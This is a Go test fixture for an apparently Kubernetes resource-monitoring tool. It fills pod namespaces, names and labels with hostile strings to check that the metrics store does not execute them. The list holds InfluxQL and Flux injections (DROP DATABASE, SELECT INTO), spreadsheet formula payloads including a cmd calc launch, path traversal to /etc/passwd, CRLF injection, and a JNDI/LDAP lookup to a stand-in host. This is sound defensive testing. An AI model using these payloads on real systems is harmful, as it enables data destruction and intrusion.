package main

import (
	"strconv"
	"strings"
	"time"
	"unicode/utf8"

	"github.com/kubernetes-resource-monitor/krm/internal/metricdb/dbtest"
)

// hostileCluster holds pods whose namespaces, names, labels and nodes would be queries,
// if anything took them for one.
const hostileCluster = "story-hostile"

// moreHostile are strings beside dbtest.Hostile: InfluxQL, Flux, spreadsheets' formulas,
// paths, templates and what else is taken for something at times.
func moreHostile() []string {
	return []string{
		`'; SELECT * INTO "canary"."autogen"."stolen" FROM /.*/; --`, `x'; DROP SERIES FROM /.*/; --`, `"; DROP DATABASE "krm_canary"; --`, `' OR time > 0 --`,
		`' OR namespace_name =~ /.*/ OR '`, `\' OR 1=1 --`, `x' GROUP BY * --`, `' INTO canary --`, `$namespace_name`, `:namespace:`,
		`") |> to(bucket: "krm_canary/autogen")`, `" or r["namespace_name"] =~ /.*/ or "`, `") |> filter(fn: (r) => true) |> yield() //`, `import "sql"`, `\u0022) |> drop()`, `${bucket}`,
		`=1+1`, `=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=HYPERLINK("http://evil.invalid")`, "=1\tx", `"=1+1"`,
		`../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `/etc/shadow`, `C:\windows\win.ini`, `%00`, `%0d%0aX-Evil: 1`, `{{7*7}}`, `${jndi:ldap://evil.invalid/a}`,
		`{"$gt":""}`, `[object Object]`, `NaN`, `Infinity`, `1e999`, `0x10`, `all`, `default' --`, `kube-system"`,
	}
}

// hostiles is a story with a pod for each string.
type hostiles struct {
	story
	strings []string
}

func newHostiles(now time.Time) *hostiles {
	h := &hostiles{strings: append(append([]string(nil), dbtest.Hostile...), moreHostile()...)}
	h.story = story{
		cluster: hostileCluster, begin: now.Add(-time.Hour).UTC().Truncate(day).Add(-day).Add(6 * time.Hour), every: 5 * time.Minute, windows: 12, nodes: []string{"h1"},
	}
	for i, text := range h.strings {
		value, at := int64(1000+i), span{0, h.windows}
		h.add(&pod{
			namespace: text, name: h.podName(i), uid: "h-" + strings.Repeat("i", i), node: text, team: text, seen: []span{at}, rx: 1, tx: 1, ephemeral: constant(0, h.windows, value),
			containers: []*box{{
				name: text, cpu: constant(0, h.windows, value), memory: constant(0, h.windows, value), cpuReq: constant(0, h.windows, value), memReq: constant(0, h.windows, value),
				disks: []*disk{{text, constant(0, h.windows, value)}},
			}},
		})
	}
	return h
}

// podName is the name of a string's pod. Some strings are the same once they are stored,
// and two pods of one name cannot be there at once.
func (h *hostiles) podName(i int) string { return strconv.Itoa(i) + "-" + h.strings[i] }

// cleaned is a tag's value as databases keep it: control characters and backslashes at
// the end are U+FFFD, and so is each run of what is no UTF-8.
func cleaned(text string) string {
	var b strings.Builder
	broken := false
	for len(text) > 0 {
		r, size := utf8.DecodeRuneInString(text)
		text = text[size:]
		bad := r == utf8.RuneError && size == 1
		switch {
		case bad && broken:
		case bad, r < ' ', r == 0x7f:
			b.WriteRune(utf8.RuneError)
		default:
			b.WriteRune(r)
		}
		broken = bad
	}
	clean := b.String()
	bare := strings.TrimRight(clean, `\`)
	return bare + strings.Repeat(string(utf8.RuneError), len(clean)-len(bare))
}
